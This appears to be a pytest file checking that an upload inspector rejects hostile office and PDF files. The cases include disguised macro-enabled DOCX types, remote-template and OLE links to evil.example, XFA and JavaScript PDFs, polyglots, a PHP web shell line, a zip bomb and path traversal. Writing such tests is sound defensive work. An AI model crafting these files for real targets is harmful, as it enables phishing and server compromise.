"""Document files as attackers build them. What is refused is told in one sentence, whatever its name says."""

import io
import zipfile

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from documents.contents import BadFile, inspect
from tests.documents.make_documents import docx_bytes, pdf_bytes, zip_bytes

MACRO = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-word.document.{}.main+xml"/>'
RELS = "word/_rels/settings.xml.rels"


def relation(kind: str, target: str) -> dict:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        RELS: f'<Relationships><Relationship Id="a" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    }


def with_types(types: bytes) -> bytes:
    return zip_bytes({"[Content_Types].xml": types, "word/document.xml": "<w/>"})


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for types in (MACRO.format("macroEnabled"), ""):
            archive.writestr("[Content_Types].xml", f"<Types>{types}</Types>")
        archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


def attached(name: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment(name, b"MZ")
    return written(writer)


def dynamic_form() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp><script>app.alert(1)</script></xdp>")})
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


REFUSED = {
    "macro": docx_bytes(types=MACRO.format("macroEnabled")),
    "macro in UTF-16": with_types(f"\ufeff<Types>{MACRO.format('macroEnabled')}</Types>".encode("utf-16-le")),
    "macro by entity": docx_bytes(types=MACRO.format("macro&#69;nabled")),
    "macro by doctype": with_types(
        b'<!DOCTYPE x [<!ENTITY e "macroEnabled">]><Types><Default ContentType="a.&e;"/></Types>'
    ),
    "macro behind a megabyte": docx_bytes(types="<!--" + "x " * 600_000 + "-->" + MACRO.format("macroEnabled")),
    "types twice": twice(),
    "endless types": docx_bytes(types="<!--" + "".join(f"{n} " for n in range(900_000)) + "-->"),
    "entities": with_types(
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types><Default ContentType="&b;"/></Types>'
    ),
    "template from the net": docx_bytes(extra=relation("attachedTemplate", "https://evil.example/a.dotm")),
    "template from a share": docx_bytes(extra=relation("attachedTemplate", "\\\\evil.example\\a.dotm")),
    "template from a share by file": docx_bytes(extra=relation("attachedTemplate", "file://evil.example/a.dotm")),
    "object from the net": docx_bytes(extra=relation("oleObject", "http://evil.example/a.html")),
    "object by another reader": docx_bytes(extra=relation("oleObject", "mhtml:http://evil.example/a.html!x-usc:b")),
    "form with scripts": dynamic_form(),
    "attached program": attached("hoa-don.EXE"),
    "attached page": attached("a.html"),
    "script": pdf_bytes(script="app.alert(1)"),
    "markup named pdf": b"<!doctype html><script>alert(1)</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "php": b"<?php system($_GET[0]);",
    "page behind a pdf": pdf_bytes() + b"<html><script>alert(1)</script>",
    "archive behind a pdf": pdf_bytes() + zip_bytes({"a.txt": "a"}),
    "program before an archive": b"MZ" + zip_bytes({"a.txt": "a"}),
    "zip bomb": zip_bytes({"a.txt": b"0" * 50_000_000}),
    "too many members": zip_bytes({f"{n}.txt": "" for n in range(5001)}),
    "archive with a way out": zip_bytes({"../../a.txt": "a"}),
    "archive with a program": zip_bytes({"a.pdf.exe": "MZ"}),
    "archive in an archive": zip_bytes({"a.zip": zip_bytes({"a.exe": "MZ"})}),
}


@pytest.mark.parametrize("data", REFUSED.values(), ids=REFUSED)
def test_it_is_refused(data):
    with pytest.raises(BadFile):
        inspect(io.BytesIO(data), len(data))


KEPT = {
    "office's own template": (
        docx_bytes(extra=relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
        "docx",
    ),
    "link in the text": (docx_bytes(extra=relation("hyperlink", "https://chinhphu.vn/")), "docx"),
    "attached table": (attached("phu-luc.xlsx"), "pdf"),
    "plain": (pdf_bytes(), "pdf"),
}


@pytest.mark.parametrize(("data", "kind"), KEPT.values(), ids=KEPT)
def test_what_offices_really_send_is_taken(data, kind):
    assert inspect(io.BytesIO(data), len(data)).type == kind
